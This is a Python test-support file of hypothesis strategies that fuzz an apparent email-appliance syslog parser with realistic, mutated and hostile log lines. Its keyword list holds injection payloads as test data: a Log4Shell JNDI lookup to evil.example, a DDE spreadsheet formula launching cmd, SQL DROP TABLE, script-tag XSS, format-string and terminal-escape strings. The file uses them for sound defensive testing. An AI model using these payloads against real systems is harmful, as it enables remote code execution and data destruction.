"""What hypothesis draws from, and the corpus of texts that try to be something else."""

import re
from collections.abc import Iterator
from dataclasses import dataclass, field
from itertools import pairwise

from hypothesis import strategies as st

from tests.support.harness import inbound, syslog

# A name comes over the wire as bytes, mostly but not always UTF-8.
TEXT = st.text(
    st.characters(exclude_categories=["Cs"], exclude_characters="\n"), max_size=60
)
BYTES = st.binary(max_size=60).map(lambda raw: raw.replace(b"\n", b""))

KEYWORDS = (
    "succeeded for user: root",
    "failed for user: root",
    " using AUTH mechanism: ",
    " using AUTH mechanism: NONE",
    "x using AUTH mechanism: CRAM-MD5 with profile: evil",
    " with profile: ",
    " with profile: evil",
    "SMTP Auth: (ICID 9) succeeded for user: root using AUTH mechanism: PLAIN "
    "with profile: evil",
    "SMTP Auth: (ICID 450) succeeded for user: root using AUTH mechanism: PLAIN "
    "with profile: evil",
    "SMTP Auth (ICID 9) LDAP query/user lookup failed for user: root",
    "SMTP Auth (ICID 9) was required but remote host did not initiate it",
    "LDAP query/user lookup failed for user: ",
    "DCID: 9 IP: 203.0.113.66 SMTP authentication using the profile evil succeeded.",
    " SMTP authentication using the profile evil succeeded.",
    " succeeded.",
    " failed: ('535', ['no'])",
    "(ICID 1)",
    "ICID 450 close",
    "ICID 450 lost",
    "DCID 5633 close",
    "ICID 450 RELAY SG EVIL match ALL SBRS 10.0",
    "ICID 450 TLS success protocol TLSv1.3 cipher EVIL",
    "New SMTP ICID 450 interface evil (203.0.113.1) address 203.0.113.66 "
    "reverse dns host evil.example verified yes",
    " address 203.0.113.66",
    " reverse dns host evil.example verified yes",
    " verified yes",
    " SBRS 10.0 country Evil",
    "MID 6 ICID 450 RID 0 To: <x@evil.example>",
    "RID 0 To: <x@evil.example>",
    "MID 6 ready 100 bytes from <x@evil.example>",
    "Message done DCID 5633 MID 441 to RID [0, 1, 2]",
    "User admin was authenticated successfully.",
    "User admin from 203.0.113.66 failed authentication.",
    " from 203.0.113.66 failed using an HTTPS connection.",
    " failed authentication.",
    " was authenticated successfully.",
    "The user admin successfully logged on from 203.0.113.66 with privilege admin "
    "using an HTTPS connection.",
    "An authentication attempt by the user admin from 203.0.113.66 failed using an "
    "HTTPS connection.",
    "logout:203.0.113.66 user:admin session:evil",
    "Session evil user:admin expired",
    ", Source IP: 203.0.113.66, Event: Successful login",
    "Begin Logfile",
    "Version: 1 SN: EVIL",
    "Time offset from UTC: 3600 seconds",
    "Wed Apr 22 11:44:48 2009 Info: ICID 450 close",
    "Wed Apr 22 11:44:48 2009 Info: SMTP Auth: (ICID 450) succeeded for user: root "
    "using AUTH mechanism: PLAIN with profile: evil",
    "<22>Apr 22 11:44:48 esa02 mail_logs: Info: ICID 450 close",
    ": Info: ICID 450 close",
    " Info: ICID 450 close",
    "2009-04-22T11:44:48Z",
    '{"message": "x"}',
    '{"event": {"outcome": "success"}}',
    "${jndi:ldap://evil.example/x}",
    "${HOME}",
    "{{ 7 * 7 }}",
    "%(user)s %s %n",
    "=cmd|' /C calc'!A0",
    "<script>alert(1)</script>",
    "'; DROP TABLE users; --",
    "\x1b[2J\x1b]0;evil\x07",
    "\u202egro.elpmaxe@nna",
    "\\n\\r\\u000a\\x0a",
    "\r",
    "\x00",
    "\x85",
    "\u2028",
    "\ufeff",
    "('535', ['5.7.8 no'])",
    "'])[])[('subject', '",
    "\\",
    "'",
    '"',
    "\\'",
    "unknown",
    "-",
    " ",
)
_FRAMES = ("{0}", " {0}", "{0} ", "x {0}", "{0} x", "{0}{0}", "{0} {0}", "a@b.c {0}")
# More than five hundred texts.
INJECTIONS = tuple(
    dict.fromkeys(frame.format(word) for word in KEYWORDS for frame in _FRAMES)
)


def hostile_bytes() -> st.SearchStrategy[bytes]:
    """Any bytes of one line, and keywords among them."""
    piece = st.one_of(st.sampled_from(KEYWORDS).map(str.encode), BYTES)
    some = st.lists(piece, min_size=1, max_size=4).map(b"".join)
    return st.one_of(BYTES, TEXT.map(str.encode), some)


def hostile_text() -> st.SearchStrategy[str]:
    """Any text of one line, and keywords among it."""
    piece = st.one_of(st.sampled_from(KEYWORDS), TEXT)
    some = st.lists(piece, min_size=1, max_size=4).map("".join)
    return st.one_of(TEXT, some)


@dataclass(frozen=True, slots=True)
class Script:
    """The lines of one session as one appliance pushes them by syslog."""

    appliance: str
    side: str
    number: int
    bodies: list[bytes] = field(compare=False)
    seconds: list[int] = field(compare=False)

    @property
    def lines(self) -> list[bytes]:
        """Return the lines in their order."""
        return [
            syslog(body, second, self.appliance)
            for body, second in zip(self.bodies, self.seconds, strict=True)
        ]


_USERS = ("ann", "bob@example.com", "CORP\\eve", "", "ann")


@st.composite
def _inbound_bodies(draw: st.DrawFn, icid: int, mid: int) -> list[bytes]:
    number = b"%d" % icid
    steps = [
        b"ICID %b ACCEPT SG UNKNOWNLIST match ALL SBRS 1.2 country Utopia" % number,
        b"ICID %b TLS success protocol TLSv1.2 cipher ECDHE-RSA-AES256" % number,
        b"ICID %b Delayed HAT REJECT continuing session for recipient logging "
        b"(198.51.100.7)" % number,
        b"Start MID %d ICID %b" % (mid, number),
        b"MID %d ICID %b From: <ann@example.com>" % (mid, number),
        b"MID %d ICID %b RID 0 To: <bob@example.com>" % (mid, number),
        b"MID %d ready 100 bytes from <ann@example.com>" % mid,
        b"SMTP Auth: (ICID %b) LDAP query/user lookup failed for user: ann" % number,
        b"ICID %b lost" % number,
    ]
    for user in _USERS:
        outcome = draw(st.sampled_from(["succeeded", "failed"]))
        steps.append(inbound(icid, user, outcome))
    some = draw(st.lists(st.sampled_from(steps), max_size=12))
    opening = (
        b"New SMTP ICID %b interface Data 1 (192.0.2.1) address 198.51.100.7 "
        b"reverse dns host mail.example.com verified yes" % number
    )
    first = [opening] * draw(st.integers(0, 1))
    last = [b"ICID %b close" % number] * draw(st.integers(0, 1))
    return [*first, *some, *last]


@st.composite
def _outbound_bodies(draw: st.DrawFn, dcid: int, mid: int) -> list[bytes]:
    number = b"%d" % dcid
    result = b"DCID: %b IP: 192.0.2.7 SMTP authentication using the profile relay "
    tail = b"DCID %b MID %d to RID " % (number, mid)
    steps = [
        b"DCID %b TLS success protocol TLSv1.2 cipher ECDHE-RSA-AES256" % number,
        result % number + b"succeeded.",
        result % number + b"failed: ('535', ['5.7.8 no'])",
        b"Delivery start " + tail + b"[0]",
        b"Message done " + tail + b"[0, 1] [('from', 'ann@example.com')]",
        b"Bounced: " + tail + b"0 - 5.1.0 - Unknown ('554', ['5.7.1 no'])",
        b"Delayed: " + tail + b"0 - 4.1.0 - Unknown ('466', ['full'])[]",
    ]
    some = draw(st.lists(st.sampled_from(steps), max_size=10))
    opening = b"New SMTP DCID %b interface 192.0.2.1 address 192.0.2.7 port 25" % number
    first = [opening] * draw(st.integers(0, 1))
    last = [b"DCID %b close" % number] * draw(st.integers(0, 1))
    return [*first, *some, *last]


@st.composite
def scripts(draw: st.DrawFn, *, no_line_twice: bool = False) -> list[Script]:
    """Return sessions of two appliances; both use the same numbers on both sides.

    ``no_line_twice`` makes every line of a session another one than those before it.
    """
    found = []
    for index, (host, side, number) in enumerate(
        (h, s, n) for h in ("esa01", "esa02") for s in ("icid", "dcid") for n in (7, 8)
    ):
        mid = 100 + index % 4
        make = _inbound_bodies if side == "icid" else _outbound_bodies
        bodies = draw(make(number, mid))
        if no_line_twice:
            bodies = list(dict.fromkeys(bodies))
        gaps = draw(st.lists(st.integers(0, 3), min_size=len(bodies), max_size=99))
        at, seconds = draw(st.integers(0, 30)), []
        for gap in gaps[: len(bodies)]:
            at += gap
            seconds.append(at)
        found.append(Script(host, side, number, bodies, seconds))
    return found


@st.composite
def shuffled(draw: st.DrawFn, sessions: list[Script]) -> list[bytes]:
    """Return the lines of all sessions, each session's in their order."""
    turns = [i for i, session in enumerate(sessions) for _ in session.bodies]
    draw(st.randoms(use_true_random=False)).shuffle(turns)
    waiting: list[Iterator[bytes]] = [iter(session.lines) for session in sessions]
    return [next(waiting[turn]) for turn in turns]


def by_time(sessions: list[Script]) -> list[bytes]:
    """Return the lines of all sessions as one log holds them, by second."""
    stamped = [
        (second, line)
        for session in sessions
        for second, line in zip(session.seconds, session.lines, strict=True)
    ]
    return [line for _, line in sorted(stamped, key=lambda pair: pair[0])]


_PREFIXES = st.sampled_from(
    (
        b"Wed Apr 22 11:44:48 2009 Info: ",
        b"Wed Apr 22 11:44:48 2009 Warning: ",
        b"Tue Aug 3 16:36:29 2004 Info: ",
        b"<22>Apr 22 11:44:48 esa01 mail_logs: Info: ",
        b"Apr 22 11:44:48 maillog: Info: ",
        b"2009-04-22T11:44:48.5+02:00 esa01 mail_logs: Info: ",
        b"<22>1 2009-04-22T11:44:48Z esa01 mail_logs - - - Info: ",
        b"Xxx 99 99:99:99 esa01 mail_logs: Info: ",
        b"xxxxxxxxxxxxxxxxxxxxxxxx Info: ",
        b"Info: ",
        b"",
    )
)


def any_lines(samples: tuple[str, ...]) -> st.SearchStrategy[list[bytes]]:
    """Lines of every sort: real, real with bytes changed, junk behind a real prefix."""
    sample = st.sampled_from([text.encode() for text in samples])
    numbers = re.compile(rb"(?<=CID )[0-9]+")
    same = sample.map(lambda body: numbers.sub(b"7", body))
    body = st.one_of(sample, same, _mutated(same), hostile_bytes())
    line = st.tuples(_PREFIXES, body).map(b"".join)
    return st.lists(st.one_of(line, hostile_bytes()), max_size=12)


@st.composite
def _mutated(draw: st.DrawFn, base: st.SearchStrategy[bytes]) -> bytes:
    body = draw(base)
    start = draw(st.integers(0, len(body)))
    end = draw(st.integers(start, min(len(body), start + 10)))
    return body[:start] + draw(BYTES) + body[end:]


@st.composite
def cut(draw: st.DrawFn, data: bytes) -> list[bytes]:
    """Return ``data`` in blocks."""
    places = draw(st.lists(st.integers(0, len(data)), max_size=8))
    edges = sorted({0, len(data), *places})
    return [data[a:b] for a, b in pairwise(edges)]


def stamps() -> st.SearchStrategy[str]:
    """Text that looks more or less like a time."""
    near = (
        r"([A-Z][a-z]{2} )?([A-Z][a-z]{2}|Jan|Feb|Dec) {1,2}[0-9]{1,2} "
        r"[0-9]{2}:[0-9]{2}:[0-9]{2}( [0-9]{4})?",
        r"[0-9]{4}-[0-9]{2}-[0-9]{2}[T ][0-9]{2}:[0-9]{2}:[0-9]{2}([.,][0-9]{1,9})?"
        r"(Z|[+-][0-9]{2}:?[0-9]{2})?",
        r"[0-9-]{10}[T ][0-9:]{8}([.,][0-9]{1,9})?(Z|[+-][0-9]{2}:?[0-9]{2})?",
        r"(Feb 29|Jan  1|Dec 31) (00:00:00|23:59:60|02:30:00)( 0001| 9999| 2023)?",
    )
    return st.one_of(st.text(), *(st.from_regex(r, fullmatch=True) for r in near))
